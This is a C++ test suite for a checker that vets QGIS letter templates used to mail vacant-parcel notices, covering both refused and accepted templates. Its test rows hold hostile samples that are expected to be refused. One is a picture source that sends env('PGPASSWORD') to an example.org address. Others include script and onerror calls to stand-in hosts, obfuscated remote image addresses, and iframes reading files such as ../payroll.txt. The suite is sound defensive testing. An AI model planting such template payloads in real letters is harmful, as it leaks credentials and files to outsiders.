/***************************************************************************
  test_safety_templates.cpp: the safety matrix for letter templates passed
  between staff. Each hostile template is the project's own letter
  (algorithms/resources/vacantnotice.qpt) with one item added through
  QGIS's layout API and saved as QGIS saves a template; each is refused
  before any letter is drawn, naming the item and why, with nothing
  written. The shipped letter and a letter whose logo lies beside it are
  drawn.

  The hostile cases, and why they are the realistic ones:
  - A label printing env('PGPASSWORD'): the clerk runs the notices in the
    session that reads the city's PostGIS tables, whose password is in
    the environment; a template from a colleague (or from a forum) with
    one more label mails it to every owner, in print.
  - A picture whose data-defined source reads the environment: the same
    secret, printed nowhere, sent to a server in the address of an image;
    nobody reading the letters would ever see it.
  - An HTML label with a logo given by its web address: the most common
    way a logo reaches a layout (copied from the city's site), and a
    tracking pixel in another's hands: the server learns when and how
    often letters are drawn; a shared template must not call out.
  - An HTML frame showing a footer kept on a shared drive, outside the
    template's folder: an iframe prints whatever file it names
    (file:///etc/passwd as easily as the footer) into the letters.
 ***************************************************************************/
#include "swsafetycase.h"
#include "swtestdata.h"
#include "notices/swtemplatecheck.h"

#include "qgslayoutframe.h"
#include "qgsapplication.h"
#include "qgslayoutitemregistry.h"
#include "qgslayoutmultiframe.h"
#include "qgsprintlayout.h"
#include "qgsproject.h"
#include "qgsreadwritecontext.h"

#include <QDomDocument>
#include <QFile>
#include <QFileInfo>
#include <QTemporaryDir>
#include <QImage>

#include <functional>

#include <gtest/gtest.h>

using namespace SwSafety;

namespace
{
  /**
   * {DIR}/letter.qpt: the project's own letter with what \a add puts on
   * its first page, saved as the layout designer saves a template.
   */
  void writeLetter( const QString &dir, const std::function<void( QgsPrintLayout &layout )> &add )
  {
    QFile shipped( QStringLiteral( SW_SOURCE_DIR ) + QStringLiteral( "/algorithms/resources/vacantnotice.qpt" ) );
    ASSERT_TRUE( shipped.open( QIODevice::ReadOnly ) );
    QDomDocument document;
    ASSERT_TRUE( document.setContent( &shipped ) );
    QgsProject project;
    QgsPrintLayout layout( &project );
    bool loaded = false;
    layout.loadFromTemplate( document, QgsReadWriteContext(), true, &loaded );
    ASSERT_TRUE( loaded );
    add( layout );
    ASSERT_TRUE( layout.saveAsTemplate( dir + QStringLiteral( "/letter.qpt" ), QgsReadWriteContext() ) );
  }

  /**
   * An item of \a type on the first page, read from \a properties as QGIS
   * reads a template's item. (Debian's QGIS 3.22 ships no header for a
   * label or an HTML frame: their headers name a web header it lacks.)
   */
  QgsLayoutItem *addItem( QgsPrintLayout &layout, int type, const QString &id, const QVariantMap &properties )
  {
    QgsLayoutItem *item = QgsApplication::layoutItemRegistry()->createItem( type, &layout );
    QDomDocument document;
    QDomElement element = document.createElement( QStringLiteral( "LayoutItem" ) );
    element.setAttribute( QStringLiteral( "type" ), type );
    element.setAttribute( QStringLiteral( "id" ), id );
    element.setAttribute( QStringLiteral( "position" ), QStringLiteral( "150,14,mm" ) );
    element.setAttribute( QStringLiteral( "size" ), QStringLiteral( "40,12,mm" ) );
    for ( auto it = properties.constBegin(); it != properties.constEnd(); ++it )
      element.setAttribute( it.key(), it.value().toString() );
    item->readXml( element, document, QgsReadWriteContext() );
    layout.addLayoutItem( item );
    return item;
  }

  void addLabel( QgsPrintLayout &layout, const QString &id, const QString &text, bool html )
  {
    addItem( layout, QgsLayoutItemRegistry::LayoutLabel, id, { { QStringLiteral( "labelText" ), text }, { QStringLiteral( "htmlState" ), html ? 1 : 0 } } );
  }

  //! A 60 x 30 pixel PNG at \a path, the city's seal.
  void writeLogo( const QString &path )
  {
    QImage logo( 60, 30, QImage::Format_RGB32 );
    logo.fill( QColor( 20, 60, 140 ) );
    ASSERT_TRUE( logo.save( path, "PNG" ) );
  }

  //! How many images of the seal's 60 x 30 pixels the PDF at \a path holds (QGIS draws a missing picture as a 489 x 492 placeholder).
  int sealImagesIn( const QString &path )
  {
    QFile pdf( path );
    if ( !pdf.open( QIODevice::ReadOnly ) )
      return -1;
    const QByteArray bytes = pdf.readAll();
    int count = 0;
    for ( int at = bytes.indexOf( "/Subtype /Image" ); at >= 0; at = bytes.indexOf( "/Subtype /Image", at + 1 ) )
    {
      // The image's dictionary ends at ">>", before its stream.
      const QByteArray dictionary = bytes.mid( at, bytes.indexOf( ">>", at ) - at );
      if ( dictionary.contains( "/Width 60\n" ) && dictionary.contains( "/Height 30\n" ) )
        ++count;
    }
    return count;
  }

  void withVacantParcelsAnd( const QString &dir, const std::function<void( QgsPrintLayout &layout )> &add )
  {
    writeVacantParcels( dir );
    writeLetter( dir, add );
  }
} // namespace

class SafetyTemplates : public ::testing::TestWithParam<SafetyCase>
{
};

TEST_P( SafetyTemplates, RefusedByItemOrDrawn )
{
  runCase( GetParam() );
}

#define SW_NOTICE_RUN                                                                                                                                  \
  { "INPUT", "{DIR}/vacant.gpkg" }, { "OUTPUT_CSV", "{DIR}/mailing.csv" }, { "POSTING_CSV", "{DIR}/posting.csv" }, { "TEMPLATE", "{DIR}/letter.qpt" }, \
  {                                                                                                                                                    \
    "OUTPUT_PDF", "{DIR}/letters.pdf"                                                                                                                  \
  }

INSTANTIATE_TEST_SUITE_P(
  Matrix, SafetyTemplates,
  ::testing::Values(
    SafetyCase{ "a_label_prints_an_environment_variable", "vacantnotices", { SW_NOTICE_RUN }, "TEMPLATE: the label 'owner block' reads the environment (env('PGPASSWORD')); a template may not read environment variables", []( const QString &dir )
                { withVacantParcelsAnd( dir, []( QgsPrintLayout &layout )
                                        { addLabel( layout, QStringLiteral( "owner block" ), QStringLiteral( "[% \"owner\" %]\n[% env('PGPASSWORD') %]" ), false ); } ); } },
    SafetyCase{ "a_pictures_source_reads_the_environment", "vacantnotices", { SW_NOTICE_RUN }, "TEMPLATE: the picture 'seal' reads the environment (env('PGPASSWORD')); a template may not read environment variables", []( const QString &dir )
                { withVacantParcelsAnd( dir, []( QgsPrintLayout &layout )
                                        {
        QgsLayoutItem *picture = addItem( layout, QgsLayoutItemRegistry::LayoutPicture, QStringLiteral( "seal" ), {} );
        picture->dataDefinedProperties().setProperty( static_cast<int>( QgsLayoutObject::DataDefinedProperty::PictureSource ), QgsProperty::fromExpression( QStringLiteral( "'https://example.org/seal.png?k=' || env('PGPASSWORD')" ) ) ); } ); } },
    SafetyCase{ "an_html_label_loads_a_remote_logo", "vacantnotices", { SW_NOTICE_RUN }, "TEMPLATE: the label 'logo' loads https://example.org/x.png; a template may load only files in its own folder ({DIR})", []( const QString &dir )
                { withVacantParcelsAnd( dir, []( QgsPrintLayout &layout )
                                        { addLabel( layout, QStringLiteral( "logo" ), QStringLiteral( "<img src=\"https://example.org/x.png\" width=\"120\">" ), true ); } ); } },
    SafetyCase{ "an_html_frame_shows_a_file_outside_the_folder", "vacantnotices", { SW_NOTICE_RUN }, "TEMPLATE: the HTML frame 'footer' loads file:///srv/shared/footer.html; a template may load only files in its own folder ({DIR})", []( const QString &dir )
                { withVacantParcelsAnd( dir, []( QgsPrintLayout &layout )
                                        {
        // Debian's QGIS ships no header for QgsLayoutItemHtml: the frame is made from the registry and read as QGIS reads it.
        QgsLayoutMultiFrame *html = QgsApplication::layoutItemRegistry()->createMultiFrame( QgsLayoutItemRegistry::LayoutHtml, &layout );
        QDomDocument document;
        QDomElement properties = document.createElement( QStringLiteral( "LayoutMultiFrame" ) );
        properties.setAttribute( QStringLiteral( "contentMode" ), QStringLiteral( "1" ) );
        properties.setAttribute( QStringLiteral( "html" ), QStringLiteral( "<p>City of Signal Hill</p><iframe src=\"file:///srv/shared/footer.html\"></iframe>" ) );
        html->readXml( properties, document, QgsReadWriteContext() );
        layout.addMultiFrame( html );
        auto *frame = new QgsLayoutFrame( &layout, html );
        frame->setId( QStringLiteral( "footer" ) );
        frame->attemptSetSceneRect( QRectF( 20, 250, 170, 20 ) );
        html->addFrame( frame ); } ); } },
    // What a city's own letter holds stays allowed: the shipped letter, and a logo beside the template.
    SafetyCase{ "the_shipped_letter", "vacantnotices", { SW_NOTICE_RUN }, nullptr, []( const QString &dir )
                {
      writeVacantParcels( dir );
      ASSERT_TRUE( QFile::copy( QStringLiteral( SW_SOURCE_DIR ) + QStringLiteral( "/algorithms/resources/vacantnotice.qpt" ), dir + QStringLiteral( "/letter.qpt" ) ) ); },
                {},
                []( const QString &dir, const SwTestRun::Result & )
                { EXPECT_EQ( sealImagesIn( dir + QStringLiteral( "/letters.pdf" ) ), 0 ); } },
    SafetyCase{ "a_picture_beside_the_template", "vacantnotices", { SW_NOTICE_RUN }, nullptr, []( const QString &dir )
                {
      writeLogo( dir + QStringLiteral( "/logo.png" ) );
      withVacantParcelsAnd( dir, []( QgsPrintLayout &layout )
                            {
        // As the layout designer writes a picture beside the file it saves: "./logo.png".
        addItem( layout, QgsLayoutItemRegistry::LayoutPicture, QStringLiteral( "seal" ), { { QStringLiteral( "file" ), QStringLiteral( "./logo.png" ) }, { QStringLiteral( "mode" ), 1 } } ); } ); },
                {},
                []( const QString &dir, const SwTestRun::Result & )
                { EXPECT_GT( sealImagesIn( dir + QStringLiteral( "/letters.pdf" ) ), 0 ) << "the seal beside the template is not drawn"; } },
    SafetyCase{ "an_html_label_shows_the_logo_beside_the_template", "vacantnotices", { SW_NOTICE_RUN }, nullptr, []( const QString &dir )
                {
      writeLogo( dir + QStringLiteral( "/logo.png" ) );
      withVacantParcelsAnd( dir, [dir]( QgsPrintLayout &layout )
                            { addLabel( layout, QStringLiteral( "logo" ), QStringLiteral( "<img src=\"logo.png\" width=\"60\"><img src=\"file://%1/logo.png\" width=\"60\"> <a href=\"https://www.cityofsignalhill.org\">cityofsignalhill.org</a>" ).arg( dir ), true ); } ); } } ),
  []( const ::testing::TestParamInfo<SafetyCase> &info )
  { return std::string( info.param.name ); } );

/**
 * The reading itself, on a small layout written here: each row one way a
 * template could load or run something, or words a letter rightly holds.
 * {DIR} is the template's folder.
 */
struct TemplateRow
{
  const char *name;
  //! The layout's items, as a .qpt holds them.
  const char *items;
  //! The exact refusal, or nullptr when the template is accepted.
  const char *refusal;
  //! Files beside the template: name, then content.
  std::vector<std::pair<const char *, const char *>> files = {};
};

void PrintTo( const TemplateRow &row, std::ostream *os )
{
  *os << row.name;
}

class TemplateCheck : public ::testing::TestWithParam<TemplateRow>
{
};

TEST_P( TemplateCheck, RefusesByItemOrAccepts )
{
  const TemplateRow &row = GetParam();
  QTemporaryDir folder;
  const QString dir = QFileInfo( folder.path() ).canonicalFilePath();
  for ( const auto &[name, content] : row.files )
  {
    QFile file( dir + '/' + QString::fromUtf8( name ) );
    ASSERT_TRUE( file.open( QIODevice::WriteOnly ) );
    file.write( content );
  }
  QDomDocument document;
  ASSERT_TRUE( document.setContent( QStringLiteral( "<Layout name=\"letter\">%1</Layout>" ).arg( QString::fromUtf8( row.items ).replace( QLatin1String( "{DIR}" ), dir ) ) ) ) << row.items;
  const QString expected = row.refusal ? QString::fromUtf8( row.refusal ).replace( QLatin1String( "{DIR}" ), dir ) : QString();
  EXPECT_EQ( SwTemplateCheck::whyRefused( document, dir + QStringLiteral( "/letter.qpt" ) ), expected );
}

#define SW_HTML_LABEL( text ) "<LayoutItem type=\"65641\" id=\"logo\" htmlState=\"1\" labelText=\"" text "\"/>"

INSTANTIATE_TEST_SUITE_P(
  Rows, TemplateCheck,
  ::testing::Values(
    TemplateRow{ "a_script", SW_HTML_LABEL( "&lt;script&gt;new Image().src='ht'+'tps://x.example/'&lt;/script&gt;" ), "TEMPLATE: the label 'logo' runs a script (<script>); a template may not run scripts" },
    TemplateRow{ "an_event_handler", SW_HTML_LABEL( "&lt;img src=&quot;logo.png&quot; onerror=&quot;fetch('/x')&quot;&gt;" ), "TEMPLATE: the label 'logo' runs a script (onerror=\"fetch('/x')\"); a template may not run scripts" },
    TemplateRow{ "a_style_url", SW_HTML_LABEL( "&lt;div style=&quot;background: url('https://x.example/b.png')&quot;&gt;&lt;/div&gt;" ), "TEMPLATE: the label 'logo' loads https://x.example/b.png; a template may load only files in its own folder ({DIR})" },
    TemplateRow{ "an_imported_style_sheet", SW_HTML_LABEL( "&lt;style&gt;@import &quot;http://x.example/a.css&quot;;&lt;/style&gt;" ), "TEMPLATE: the label 'logo' loads http://x.example/a.css; a template may load only files in its own folder ({DIR})" },
    TemplateRow{ "an_address_in_character_references", SW_HTML_LABEL( "&lt;img src=&quot;&amp;#104;ttps&amp;colon;//x.example/p.png&quot;&gt;" ), "TEMPLATE: the label 'logo' loads https://x.example/p.png; a template may load only files in its own folder ({DIR})" },
    TemplateRow{ "a_css_escape", SW_HTML_LABEL( "&lt;p style=&quot;background:url(\\68 ttps://x.example/e.png)&quot;&gt;" ), "TEMPLATE: the label 'logo' loads https://x.example/e.png; a template may load only files in its own folder ({DIR})" },
    TemplateRow{ "a_refresh", SW_HTML_LABEL( "&lt;meta http-equiv=&quot;refresh&quot; content=&quot;0; url=https://x.example/&quot;&gt;" ), "TEMPLATE: the label 'logo' loads https://x.example/; a template may load only files in its own folder ({DIR})" },
    TemplateRow{ "a_file_above_the_folder", SW_HTML_LABEL( "&lt;iframe src=&quot;../payroll.txt&quot;&gt;&lt;/iframe&gt;" ), "TEMPLATE: the label 'logo' loads ../payroll.txt; a template may load only files in its own folder ({DIR})" },
    TemplateRow{ "an_address_built_in_an_expression", SW_HTML_LABEL( "&lt;img src=&quot;[% 'https://x.example/' || &quot;owner&quot; %]&quot;&gt;" ), "TEMPLATE: the label 'logo' builds HTML or an address in an expression ('https://x.example/' || \"owner\"); a template's HTML must be written out, where it can be checked" },
    TemplateRow{ "an_address_computed_from_a_field", SW_HTML_LABEL( "&lt;img src=&quot;[% &quot;notice_id&quot; %].png&quot;&gt;" ), "TEMPLATE: the label 'logo' loads an address computed while letters are drawn ([% \"notice_id\" %].png); a template may load only files in its own folder ({DIR})" },
    TemplateRow{ "a_page_beside_that_loads_a_remote_image", SW_HTML_LABEL( "&lt;iframe src=&quot;footer.html&quot;&gt;&lt;/iframe&gt;" ), "TEMPLATE: the label 'logo' loads https://x.example/t.gif; a template may load only files in its own folder ({DIR})", { { "footer.html", "<p>Public Works</p><img src=\"https://x.example/t.gif\">" } } },
    TemplateRow{ "eval_in_a_plain_label", "<LayoutItem type=\"65641\" id=\"\" htmlState=\"0\" labelText=\"Dear [% eval('en' || 'v(''HOME'')') %]\"/>", "TEMPLATE: the label 'Dear [% eval('en' || 'v('…' evaluates text as an expression (eval('en' || 'v(''HOME'')')), which could read the environment; a template may not read environment variables" },
    TemplateRow{ "env_in_the_atlas_page_names", "<Atlas enabled=\"0\" pageNameExpression=\"ENV( 'USER' )\"/>", "TEMPLATE: the atlas settings reads the environment (env('USER')); a template may not read environment variables" },
    TemplateRow{ "a_picture_from_a_field", "<LayoutItem type=\"65640\" id=\"signature\"><LayoutObject><dataDefinedProperties><Option type=\"Map\"><Option name=\"properties\" type=\"Map\"><Option name=\"dataDefinedSource\" type=\"Map\"><Option name=\"active\" type=\"bool\" value=\"true\"/><Option name=\"field\" type=\"QString\" value=\"signer_image\"/><Option name=\"type\" type=\"int\" value=\"2\"/></Option></Option></Option></dataDefinedProperties></LayoutObject></LayoutItem>", "TEMPLATE: the picture 'signature' loads an address computed while letters are drawn (signer_image); a template may load only files in its own folder ({DIR})" },
    TemplateRow{ "a_remote_picture", "<LayoutItem type=\"65640\" id=\"\" file=\"https://x.example/seal.svg\"/>", "TEMPLATE: the picture with no id loads https://x.example/seal.svg; a template may load only files in its own folder ({DIR})" },
    // What letters rightly hold: the city's web address in words and in a link, pictures written in the page, files beside the template.
    TemplateRow{ "a_web_address_in_words", "<LayoutItem type=\"65641\" id=\"contact\" htmlState=\"0\" labelText=\"Guidance: https://www.cityofsignalhill.org/stormwater [% &quot;contact_block&quot; %]\"/>", nullptr },
    TemplateRow{ "a_link_data_and_files_beside", SW_HTML_LABEL( "&lt;a href=&quot;https://www.cityofsignalhill.org&quot;&gt;site&lt;/a&gt; &lt;img src=&quot;data:image/png;base64,iVBORw0KGgo=&quot;&gt; &lt;img src=&quot;./seal.png&quot;&gt; &lt;img src=&quot;file://{DIR}/seal.png&quot;&gt; &lt;iframe src=&quot;footer.html&quot;&gt;&lt;/iframe&gt; [% &quot;owner&quot; %]" ), nullptr, { { "footer.html", "<p>Public Works</p><img src=\"seal.png\">" } } } ),
  []( const ::testing::TestParamInfo<TemplateRow> &info )
  { return std::string( info.param.name ); } );
